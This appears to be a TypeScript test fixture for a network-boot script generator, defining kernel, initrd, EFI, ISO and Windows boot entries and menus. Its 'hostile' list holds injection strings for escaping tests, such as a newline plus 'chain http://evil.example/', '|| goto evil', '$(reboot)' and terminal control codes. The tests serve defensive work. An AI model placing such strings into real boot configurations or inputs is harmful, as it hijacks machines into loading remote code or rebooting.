import type { BootContent } from '../../../src/boot/script.ts'

export const url = 'http://10.77.0.1:8080'
export const kernel = `${url}/assets/images/debian/linux`
export const first = `${url}/assets/images/debian/initrd.gz`
export const second = `${url}/assets/@0a1b2c3d4e5f/own%20files.img`
export const cmdline = `console=ttyS0 bootwright=${url}/phone-home/TOKEN BOOTIF=01-52-54-00-12-34-56`

export function boot(title: string, initrd: readonly string[], line = cmdline): BootContent {
  return { kind: 'boot', title, image: { kernel, initrd, cmdline: line } }
}

export const local: BootContent = {
  kind: 'local',
  reason: 'Disk: node1 is idle: no install was asked',
}

/** What must stay text on the screen, in whatever language. */
export const hostile = [
  'a\nchain http://evil.example/',
  'a\r\nsanboot',
  `the \${password} of \${netX/mac}`,
  'a || goto evil',
  'a && goto evil',
  'a ; goto evil',
  '# not a comment',
  'quoted "text" and `more`',
  "it's 'over'; reboot '",
  'back\\slash',
  'LABEL evil { } $(reboot)',
  'ünïcödé \u202e and \u0000 and \u001b[2J',
]

/** One of each kind that is no Linux kernel, with the name of its golden files. */
export const others: readonly [name: string, content: BootContent][] = [
  [
    'efi',
    {
      kind: 'boot',
      title: 'node1 installs uki, attempt 1',
      image: { kind: 'efi', program: `${url}/assets/images/uki.efi`, args: cmdline },
    },
  ],
  [
    'iso',
    {
      kind: 'boot',
      title: 'node1 boots rescue',
      image: { kind: 'iso', url: `${url}/assets/images/rescue.iso` },
    },
  ],
  [
    'wim',
    {
      kind: 'boot',
      title: 'node1 installs windows, attempt 1',
      image: {
        kind: 'wim',
        wimboot: `${url}/assets/loaders/wimboot`,
        args: 'gui',
        files: [
          { name: 'BCD', url: `${url}/assets/images/windows/BCD` },
          { name: 'boot.sdi', url: `${url}/assets/images/windows/boot.sdi` },
          { name: 'boot.wim', url: `${url}/assets/images/windows/boot.wim` },
          { name: 'startnet.cmd', url: `${url}/files/TOKEN/startnet.cmd` },
        ],
      },
    },
  ],
]

export function menu(title: string, names: readonly string[]): BootContent {
  const entries = names.map(name => ({ name, url: `${url}/menu/TOKEN/${name}` }))
  return { kind: 'menu', title, seconds: 30, entries }
}
